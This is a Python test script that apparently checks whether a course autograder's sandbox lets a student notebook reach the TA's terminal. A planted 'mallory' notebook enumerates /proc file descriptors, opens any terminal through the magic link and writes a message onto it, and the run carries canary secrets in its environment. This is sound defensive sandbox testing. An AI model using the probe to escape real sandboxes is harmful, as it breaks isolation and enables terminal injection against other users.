"""a08: the grader run from a terminal (under `script`, a pty as its stdin/stdout/stderr, as a TA's shell): does any
process of the sandbox hold the TA's terminal (its controlling tty, or a descriptor reachable as /proc/<pid>/fd/N,
which a magic link opens without the device node being in the sandbox's /dev)? /dev/tty is mounted in the sandbox."""
import os, sys, shlex
sys.path.insert(0, os.path.dirname(__file__))
from harness import *
code = r'''
import os, fcntl, termios
try:
    fd = os.open("/dev/tty", os.O_RDWR | os.O_NOCTTY); print("PROBE /dev/tty OPENED", fd)
except OSError as e: print("PROBE /dev/tty", e)
for pid in sorted(int(p) for p in os.listdir("/proc") if p.isdigit()):
    try:
        st = open(f"/proc/{pid}/stat").read(); rest = st.rsplit(")", 1)[1].split()
        comm = st[st.index("(")+1:st.rindex(")")]
        print("PROBE pid", pid, comm, "sid", rest[3], "tty_nr", rest[4], "tpgid", rest[5])
        for fdn in os.listdir(f"/proc/{pid}/fd"):
            t = os.readlink(f"/proc/{pid}/fd/{fdn}")
            if not t.startswith(("socket:", "pipe:", "anon_inode:")) or pid == 1:
                print("PROBE   fd", fdn, t)
            if "pts" in t or "tty" in t or "ptmx" in t or "console" in t:
                try:
                    f = os.open(f"/proc/{pid}/fd/{fdn}", os.O_RDWR | os.O_NOCTTY); print("PROBE   TTY OPENED", t)
                    os.write(f, b"\r\n\x1b[1;31m[sandbox] mallory wrote this on the TA's terminal\x1b[0m\r\n")
                except OSError as e: print("PROBE   tty open", e)
    except Exception as e: print("PROBE pid", pid, type(e).__name__, e)
'''
d = make_course("tty"); good = solution_nb()
put(d, "aaron", good); put(d, "mallory", probe_nb(code)); put(d, "zoe", good)
cmd = f"cd {CLONE} && DATABASE_URL=postgresql://ta:secret@localhost/x AWS_SECRET_ACCESS_KEY=AKIASECRETCANARY123 {CLONE}/.venv/bin/python -m grader.grade --course-dir {d} --workers 1 ps1_memory"
r = subprocess.run(["script", "-qec", cmd, "/tmp/attack39-root-tty.typescript"], capture_output=True, text=True, timeout=900, stdin=subprocess.DEVNULL)
ts = open("/tmp/attack39-root-tty.typescript", "rb").read()
print("typescript holds the sandbox's line:", b"mallory wrote this" in ts)
print("\n".join(l for l in r.stdout.splitlines() if l.startswith(("aaron", "mallory", "zoe"))))
print("\n".join(l for l in outputs(d).splitlines() if l.startswith("PROBE")))
